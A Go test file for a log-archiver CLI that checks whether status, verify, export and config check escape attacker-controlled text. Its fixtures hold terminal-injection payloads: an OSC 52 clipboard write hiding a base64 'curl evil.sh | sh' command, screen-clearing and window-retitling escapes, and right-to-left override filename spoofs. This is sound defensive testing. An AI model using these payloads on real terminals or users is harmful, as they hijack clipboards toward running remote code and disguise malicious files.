package cli_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/entra-archiver/entra-archiver/internal/cli"
	"github.com/entra-archiver/entra-archiver/internal/layout"
	"github.com/entra-archiver/entra-archiver/internal/state"
)

// Text an attacker chooses: a Graph error that writes the clipboard (OSC 52)
// and clears the screen, a blob name that retitles the window, a reason
// whose right-to-left override makes "exe.txt" read as "txt.exe", a C1 CSI.
const (
	hostileError  = "Forbidden: \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b[2J\x1b[Hall checks passed"
	hostileReason = "Graph's edge moved \u202eexe.txt\u202c \u009b2J"
	hostileBlob   = "evil\x1b]0;pwned\x07\x1b[2J.jsonl.gz"
)

// TestSecurityTerminalInjection: text from outside (an error kept in the
// state, a lost span's reason, blob names from a listing) reaches status,
// verify, export and config check output only escaped, readably; status
// --json keeps the values exactly, escaped as JSON.
func TestSecurityTerminalInjection(t *testing.T) {
	f := buildFixture(t)
	store := state.DocStore{Sink: f.sink}
	st, version, found, err := store.Load(t.Context(), "contoso", "interactive-signins")
	if err != nil || !found {
		t.Fatalf("state: found %v, %v", found, err)
	}
	st.LastRun = &state.Run{Started: fixtureT0, Finished: fixtureT0.Add(time.Minute), Result: "failed", Error: hostileError}
	lostAt := time.Date(2026, 11, 19, 12, 0, 0, 0, time.UTC)
	st.Lost = append(st.Lost, state.LostSpan{From: lostAt, To: lostAt.Add(time.Hour), Reason: hostileReason, Noted: fixtureT0})
	if _, err := store.Save(t.Context(), "contoso", "interactive-signins", st, version); err != nil {
		t.Fatal(err)
	}
	// Files the archiver never writes, named by whoever can write to the
	// folder: in a partition's folder and in the quarantine.
	lay := layout.Layout{}
	for _, dir := range []string{filepath.Join(f.dir, "contoso/interactive-signins/y=2026/m=11/d=20/h=03"),
		filepath.Join(f.dir, filepath.FromSlash(lay.QuarantineDir("contoso", "interactive-signins")))} {
		if err := os.MkdirAll(dir, 0o700); err != nil {
			t.Fatal(err)
		}
		for _, name := range []string{hostileBlob, "\u202egpj.json"} {
			if err := os.WriteFile(filepath.Join(dir, name), []byte("{}\n"), 0o600); err != nil {
				t.Fatal(err)
			}
		}
	}

	type output struct{ name, text, want string }
	var outs []output
	run := func(want string, args ...string) {
		t.Helper()
		code, stdout, stderr := entra(t, args...)
		name := strings.Join(args[:1], " ")
		t.Logf("%s: exit %d\nstdout:\n%s\nstderr:\n%s", name, code, stdout, stderr)
		outs = append(outs, output{name, stdout + stderr, want})
	}
	run(`Forbidden: \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b[2J\x1b[Hall checks passed`, "status", "--config", f.config)
	run(`evil\x1b]0;pwned\x07\x1b[2J.jsonl.gz`, "verify", "--config", f.config)
	run(`\u202eexe.txt\u202c \u009b2J`, "export", "--config", f.config, "--tenant", "contoso", "--stream", "interactive-signins",
		"--from", "2026-11-19T11:00:00Z", "--to", "2026-11-19T20:00:00Z", "--format", "jsonl", "--allow-gaps")
	for _, o := range outs {
		if bad := rawControl(o.text); bad != "" {
			t.Errorf("%s printed %s raw", o.name, bad)
		}
		if !strings.Contains(o.text, o.want) {
			t.Errorf("%s output lacks %s", o.name, o.want)
		}
	}
	if out := outs[1].text; !strings.Contains(out, `\u202egpj.json`) || !strings.Contains(out, `Graph's edge moved \u202eexe.txt`) {
		t.Errorf("verify does not show the quarantine's file or the lost span's reason escaped:\n%s", out)
	}

	code, stdout, stderr := entra(t, "status", "--config", f.config, "--json")
	if bad := rawControl(stdout + stderr); bad != "" || code != cli.ExitOK {
		t.Errorf("status --json: exit %d, %s raw:\n%s", code, bad, stdout)
	}
	var rep struct {
		Rows []struct {
			LastRun struct{ Error string } `json:"last_run"`
			Lost    []struct{ Reason string }
		}
	}
	if err := json.Unmarshal([]byte(stdout), &rep); err != nil || len(rep.Rows) != 1 {
		t.Fatalf("status --json: %v\n%s", err, stdout)
	}
	if row := rep.Rows[0]; row.LastRun.Error != hostileError || len(row.Lost) == 0 || row.Lost[len(row.Lost)-1].Reason != hostileReason {
		t.Errorf("status --json changed the values: %q, %+v", row.LastRun.Error, row.Lost)
	}

	// config check quotes the configuration's values, and what the
	// variables it names hold.
	path := filepath.Join(t.TempDir(), "config.yaml")
	text := strings.Replace(archiveConfigFor(t, f), "state: {type: storage}", "state: {type: \"storage\\e[2J\\u202e\"}", 1)
	text = strings.Replace(text, "storage: {type: local, local: {path: ", "storage: {type: azblob, azblob: {connection_string_env: EVIL_CONNECTION, container: logs}, local: {path: ", 1)
	if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	var out, errOut bytes.Buffer
	code = cli.MainContext(t.Context(), []string{"config", "check", "--config", path}, &out, &errOut,
		append(slices.Clone(archiveEnv), "EVIL_CONNECTION=DefaultEndpointsProtocol=http;AccountName=evil\x1b[2J\x1b[H\u202e;AccountKey=a2V5")) // no ";" inside
	t.Logf("config check: exit %d\n%s%s", code, out.String(), errOut.String())
	if bad := rawControl(out.String() + errOut.String()); bad != "" || code != cli.ExitUsage {
		t.Errorf("config check: exit %d, printed %s raw", code, bad)
	}
	if !strings.Contains(errOut.String(), `evil\x1b[2J\x1b[H\u202e.blob.core.windows.net`) {
		t.Errorf("config check does not name the connection string's host, escaped")
	}
}

// archiveConfigFor is the fixture's configuration file.
func archiveConfigFor(t *testing.T, f *archiveFixture) string {
	t.Helper()
	data, err := os.ReadFile(f.config)
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}

// rawControl names the first character in s that a terminal would act on
// (newlines aside), or is "".
func rawControl(s string) string {
	for _, r := range s {
		if r < 0x20 && r != '\n' || r == 0x7f || r >= 0x80 && r < 0xa0 || unicode.In(r, unicode.Cf, unicode.Zl, unicode.Zp) {
			return fmt.Sprintf("%U", r)
		}
	}
	return ""
}
